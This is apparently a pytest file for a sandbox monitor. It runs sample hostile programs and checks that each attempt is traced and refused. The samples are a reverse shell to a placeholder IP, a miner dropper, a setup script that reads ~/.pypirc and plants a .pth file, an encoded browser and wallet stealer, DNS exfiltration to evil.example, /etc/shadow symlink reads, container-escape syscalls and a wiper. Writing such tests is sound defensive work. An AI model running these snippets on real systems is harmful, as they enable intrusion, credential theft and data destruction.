"""Programs as an analyst gets them: each is named for what it tried, and nothing that it did not try is.

All run as cells of one session, one after another; `tests/sandbox/test_attempts.py` has those that need a run of their
own (static binaries, undumpable children, a hundred threads).
"""

from __future__ import annotations

import textwrap

import pytest

import sandbox_magic as sm

TRY = """
import contextlib, os, socket, subprocess, sys
def attempt(do, *given, **how):
    with contextlib.suppress(Exception): return do(*given, **how)
"""
# Name -> program, those of its attempts that are not allowed, and some that are.
PROGRAMS = {
    "reverse shell": (
        """
        s = socket.socket()
        if attempt(s.connect, ("203.0.113.5", 4444)): subprocess.call(["/bin/sh", "-i"], stdin=s.fileno())
        """,
        {("connect", "203.0.113.5:4444"): "no network"},
        (),
    ),
    "miner's dropper": (
        """
        import shutil, urllib.request
        attempt(urllib.request.urlopen, "http://pool.example/xmrig")
        shutil.copy("/bin/true", "/tmp/xmrig")
        os.chmod("/tmp/xmrig", 0o700)
        subprocess.run(["/tmp/xmrig", "-o", "pool.example:3333"])
        attempt(open, "/etc/cron.d/update", "w")
        os.remove("/tmp/xmrig")
        """,
        {("look up", "pool.example"): "no network", ("open", "/etc/cron.d/update"): "refused"},
        (("run", "/tmp/xmrig"), ("remove", "/tmp/xmrig")),
    ),
    "package's setup script": (
        """
        import json, pathlib
        attempt(pathlib.Path("~/.pypirc").expanduser().read_text)
        pathlib.Path("build").mkdir()
        pathlib.Path("build/meta.json").write_text(json.dumps({"name": "left-pad"}))
        attempt(open, "/usr/lib/python3/dist-packages/evil.pth", "a")
        attempt(socket.getaddrinfo, "pypi.example", 443)
        subprocess.run([sys.executable, "-S", "-c", "print(1)"], capture_output=True)
        """,
        {
            ("open", "/home/sandbox/.pypirc"): "not shared",
            ("open", "/usr/lib/python3/dist-packages/evil.pth"): "refused",
            ("look up", "pypi.example"): "no network",
        },
        (("open", "build/meta.json"),),
    ),
    "well-behaved data script": (
        """
        import collections, csv, datetime, decimal, json, pathlib, sqlite3, statistics, tempfile, zipfile
        with open("sales.csv", "w", newline="") as file: csv.writer(file).writerows([["a", 1], ["b", 2]])
        with open("sales.csv", newline="") as file: rows = list(csv.reader(file))
        base = sqlite3.connect("sales.db"); base.execute("create table t (x)"); base.commit(); base.close()
        with tempfile.TemporaryDirectory() as folder, zipfile.ZipFile(f"{folder}/a.zip", "w") as packed:
            packed.write("sales.csv")
        json.loads(json.dumps({"mean": statistics.mean(float(n) for _, n in rows)}))
        sorted(pathlib.Path(".").glob("*.csv")), datetime.datetime.now().astimezone().tzname()
        subprocess.run("sort sales.csv | head -1", shell=True, capture_output=True, check=True)
        """,
        {},
        (("open", "sales.csv"),),
    ),
    "browser stealer that hides its words": (
        """
        import base64
        exec(base64.b64decode(base64.b64encode(b'''
        for name in (".mozilla/firefox/x/logins.json", ".config/google-chrome/Default/Cookies", ".bitcoin/wallet.dat"):
            attempt(open, os.path.join(os.path.expanduser("~"), name))
        '''.replace(b"\\n        ", b"\\n"))))
        """,
        {
            ("open", f"/home/sandbox/{name}"): "not shared"
            for name in (
                ".mozilla/firefox/x/logins.json",
                ".config/google-chrome/Default/Cookies",
                ".bitcoin/wallet.dat",
            )
        },
        (),
    ),
    "what it reads goes out by names": (
        """
        word = open("/etc/hostname").read().strip() if os.path.exists("/etc/hostname") else "x"
        attempt(socket.gethostbyname, f"{'61' * 8}.evil.example")
        attempt(socket.socket(type=socket.SOCK_DGRAM).sendto, b"q", ("192.0.2.53", 53))
        """,
        {("look up", f"{'61' * 8}.evil.example"): "no network", ("send", "192.0.2.53:53"): "no network"},
        (),
    ),
    "mail": (
        """
        import smtplib
        attempt(smtplib.SMTP, "198.51.100.25", timeout=5)
        """,
        {("connect", "198.51.100.25:25"): "no network"},
        (),
    ),
    "by a link, and by another program": (
        """
        os.symlink("/etc/shadow", "/tmp/innocent"), os.symlink("innocent", "/tmp/again")
        attempt(open, "/tmp/again")
        attempt(os.rename, "/tmp/again", "/usr/bin/env")
        subprocess.run(["cat", "/etc/gshadow"], stderr=subprocess.DEVNULL)
        """,
        {
            ("open", "/etc/gshadow"): "not shared",
            ("rename", "/etc/shadow -> /tmp/innocent"): "not shared",
            ("rename", "/tmp/again -> /usr/bin/env"): "refused",
        },
        (("rename", "innocent -> /tmp/again"), ("open", "/tmp/again"), ("run", "/usr/bin/cat")),
    ),
    "a program that is in memory alone": (
        """
        program = os.memfd_create("kworker")
        os.write(program, open("/bin/true", "rb").read())
        subprocess.run([f"/proc/self/fd/{program}"], pass_fds=[program])
        """,
        {},
        (("run", "/proc/self/fd/"),),
    ),
    "one that breaks out": (
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.unshare(0x10000000), libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), libc.ptrace(16, 1, 0, 0)
        if os.uname().machine == "x86_64": libc.syscall(56, 0x10000011, 0, 0, 0, 0)
        else: libc.syscall(220, 0x10000011, 0, 0, 0, 0)
        libc.setns(3, 0), attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
        attempt(socket.socket(socket.AF_UNIX).connect, "/run/docker.sock")
        """,
        {("call", name): "refused" for name in ("unshare", "mount", "ptrace", "setns", "socket", "clone")}
        | {("connect", "/run/docker.sock"): "not shared"},
        (),
    ),
    "wiper": (
        """
        import shutil
        shutil.rmtree(".", ignore_errors=True)
        attempt(os.remove, "/usr/bin/env"), attempt(os.rename, "/etc/passwd", "/etc/passwd.locked")
        """,
        {("remove", "/usr/bin/env"): "refused", ("rename", "/etc/passwd -> /etc/passwd.locked"): "refused"},
        (("remove", "sales.csv"),),
    ),
}


@pytest.fixture(scope="module")
def results():
    """Each program's result."""
    with sm.Session(trace=True, memory="1G", timeout=120) as session:
        session.run(TRY).check()
        yield {name: session.run(textwrap.dedent(program[0])) for name, program in PROGRAMS.items()}


@pytest.mark.parametrize("name", PROGRAMS)
def test_it_is_named_for_what_it_tried_and_nothing_is_invented(name, results):
    _, refused, others = PROGRAMS[name]
    result = results[name]
    assert result.ok, result.stderr
    assert {(row.kind, row.target): row.answer for row in result.attempts.refused} == refused
    tried = [(row.kind, row.target) for row in result.attempts]
    for kind, start in others:
        assert any(each[0] == kind and each[1].startswith(start) for each in tried), (kind, start, tried)


def test_what_looks_like_secrets_comes_first_in_words(results):
    for name, what in (
        ("package's setup script", "keys of package registries"),
        ("browser stealer that hides its words", "browser profiles"),
        ("browser stealer that hides its words", "wallets"),
        ("by a link, and by another program", "password hashes"),
        ("one that breaks out", "the Docker socket"),
    ):
        assert any(note.startswith(f"It looked for {what} (") for note in results[name].notes), (name, what)
